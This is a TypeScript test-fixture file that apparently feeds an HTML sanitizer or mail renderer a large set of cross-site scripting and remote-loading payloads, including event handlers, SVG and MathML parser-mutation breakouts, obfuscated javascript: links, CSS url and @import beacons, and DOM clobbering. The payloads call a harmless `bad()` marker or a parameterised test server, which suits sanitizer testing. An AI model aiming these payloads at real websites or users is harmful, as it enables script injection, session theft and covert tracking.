// SPDX-License-Identifier: AGPL-3.0-or-later
// HTML that strangers send to run something or to be told that it was read. What runs calls `bad()` or asks `evil` for something.

const run = (how: string) => `bad('${how}')`;

/** By what they are; `at` is the address of a server that must never hear of them. */
export function attacks(at: string): Record<string, string> {
  const url = (name: string) => `${at}/${name}`;
  return {
    script: `<script>${run("script")}</script><script src="${url("script")}"></script><scr<script>ipt>${run("split")}</scr</script>ipt>`,
    handlers: `<img src=x onerror="${run("img")}"><body onload="${run("load")}"><p onclick="${run("p")}" onpointerover="${run("over")}" style="width:100%;height:50px">x</p><details open ontoggle="${run("toggle")}">x</details>`,
    slashes: `<img/src="x"/onerror=${run("slash").replaceAll("'", "`")}><svg/onload=${run("svg").replaceAll("'", "`")}>`,
    svg: `<svg onload="${run("svg")}"><script>${run("in")}</script><image href="${url("svg")}"/><use href="${url("use")}#x"/><animate onbegin="${run("anim")}" attributeName=x dur=1s><foreignObject><iframe src="${url("fo")}"></iframe></foreignObject></svg>`,
    "svg style": `<svg><style><img src=x onerror="${run("style")}"></style></svg><svg></p><style><a id="</style><img src=1 onerror=${run("id").replaceAll("'", "`")}>">`,
    mathml: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run("m").replaceAll("'", "`")}&gt;"></table></mtext></math><math href="javascript:${run("href")}">x</math>`,
    "mathml form": `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${run("form")}">`,
    annotation: `<math><annotation-xml encoding="text/html"><script>${run("xml")}</script><img src=x onerror="${run("xml")}"></annotation-xml></math>`,
    "style url": `<p style="background:url(${url("bg")});background-image:image-set('${url("set")}' 1x);list-style:url('${url("list")}');cursor:url(${url("cur")}),auto;content:url(${url("content")})">x</p>`,
    "style escaped": `<p style="background:\\75rl(${url("esc")});back\\67round:u\\72 l(${url("esc2")});b/**/ackground:u/**/rl(${url("esc3")})">x</p>`,
    "style sheet": `<style>@import "${url("import")}";@import url(${url("import2")});body{background:url(${url("sheet")})}@font-face{font-family:x;src:url(${url("font")})}p{font-family:x}</style><link rel=stylesheet href="${url("link")}"><p>x</p>`,
    expression: `<p style="width:expression(${run("expr")});behavior:url(${url("htc")});-moz-binding:url(${url("xbl")}#x)">x</p>`,
    refresh: `<meta http-equiv=refresh content="0;url=${url("refresh")}"><meta http-equiv="Set-Cookie" content="a=b"><meta http-equiv=refresh content="0;javascript:${run("refresh")}">`,
    base: `<base href="${at}/" target=_top><img src="relative"><a href="relative">x</a>`,
    form: `<form action="${url("form")}" id=f><input name=password autofocus onfocus="${run("focus")}"><button formaction="javascript:${run("action")}">x</button><input type=image src="${url("image")}"></form><isindex action="${url("isindex")}">`,
    iframe: `<iframe srcdoc="<script>parent.bad('srcdoc')</script><img src='${url("srcdoc")}'>"></iframe><iframe src="javascript:parent.${run("frame")}"></iframe><iframe src="${url("frame")}"></iframe><frameset><frame src="${url("fs")}"></frameset>`,
    object: `<object data="${url("object")}"></object><embed src="${url("embed")}"><applet code="${url("applet")}"></applet><object data="data:text/html,<script>parent.bad('object')</script>"></object><portal src="${url("portal")}"></portal>`,
    links: ["javascript:X", " java\tscript:X", "java&#10;script:X", "&#106;avascript:X", "javascript&colon;X", "\u0001javascript:X", "JaVaScRiPt:X", "vbscript:X", "data:text/html,<script>X</script>", "javascript:%0aX", "javascript&NewLine;:X", "feed:javascript:X", "jar:javascript:X!/"].map((href) => `<a href="${href.replace("X", run("link"))}">link</a>`).join(" "),
    "link ping": `<a href="https://ok.test" ping="${url("ping")}">x</a><a href="${url("prefetch")}" rel="prefetch preload dns-prefetch">x</a><link rel=preload as=image href="${url("preload")}"><link rel=dns-prefetch href="${at}"><link rel=prerender href="${url("prerender")}">`,
    "data uri": `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.bad(1)'><image href='${url("datasvg")}'/></svg>"><iframe src="data:text/html,<img src='${url("datahtml")}'>"></iframe>`,
    noscript: `<noscript><p title="</noscript><img src=x onerror=${run("ns").replaceAll("'", "`")}>"></noscript><noembed><p title="</noembed><img src=x onerror=${run("ne").replaceAll("'", "`")}>"></noembed><noframes><img title="</noframes><img src=x onerror=${run("nf").replaceAll("'", "`")}>"></noframes>`,
    template: `<template><script>${run("t")}</script><img src=x onerror="${run("t")}"></template><div><template shadowrootmode=open><img src=x onerror="${run("shadow")}"><script>${run("shadow")}</script><style>:host{background:url(${url("shadow")})}</style></template></div>`,
    "raw text": `<textarea><img title="</textarea><img src=x onerror=${run("ta").replaceAll("'", "`")}>"><title><img title="</title><img src=x onerror=${run("ti").replaceAll("'", "`")}>"><xmp><p title="</xmp><img src=x onerror=${run("x").replaceAll("'", "`")}>"><select><style></select><img src=x onerror="${run("sel")}"></style>`,
    plaintext: `<plaintext><script>${run("plain")}</script>`,
    comment: `<!--><img src=x onerror="${run("c1")}">--><!--[if true]><script>${run("if")}</script><![endif]--><!-- --!><img src=x onerror="${run("c2")}"> --><![CDATA[><script>${run("cdata")}</script>]]><?xml <script>${run("pi")}</script>?>`,
    quotes: `<img """><script>${run("q")}</script>"><p title='"><script>${run("q2")}</script>'>x</p><p title="&quot;&gt;&lt;img src=x onerror=${run("q3").replaceAll("'", "`")}&gt;">x</p><a title=\`<img src=x onerror=${run("q4").replaceAll("'", '"')}>\`>x</a>`,
    pictures: `<img src="${url("img")}"><img srcset="${url("srcset")} 1x" src="cid:none"><picture><source srcset="${url("source")}"><img alt=x></picture><img data-src="x" lowsrc="${url("lowsrc")}" dynsrc="${url("dynsrc")}"><img src="//${at.replace(/^\w+:\/\//, "")}/slashes"><img longdesc="${url("long")}">`,
    "our own marks": `<img data-src='x" onerror="${run("mark")}'><p title='data-src="${url("title")}" src="${url("title2")}"'>data-src="${url("text")}" x</p><img data-cid='" onerror="${run("cid")}'><img alt='data-cid="none" onerror=${run("alt").replaceAll("'", "`")}'>`,
    media: `<video src="${url("video")}" poster="${url("poster")}" autoplay onerror="${run("v")}"><source src="${url("vs")}" onerror="${run("s")}"><track src="${url("track")}"></video><audio src="${url("audio")}" autoplay onerror="${run("a")}"></audio><bgsound src="${url("bgsound")}">`,
    backgrounds: `<body background="${url("body")}"><table background="${url("table")}"><tr><td background="${url("td")}">x</td></tr></table>`,
    clobbering: `<form name=cookie><input name=bad><img name=createElement><a id=location href="javascript:${run("clobber")}">x</a>`,
    xml: `<?xml-stylesheet href="javascript:${run("xsl")}"?><x xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="${url("xlink")}">x</x><html manifest="${url("manifest")}"><o:p><v:imagedata src="${url("vml")}"/></o:p>`,
    nesting: `${"<b><table><a>".repeat(40)}<svg><p><style><g title="</style><img src=x onerror=${run("deep").replaceAll("'", "`")}>">`,
  };
}
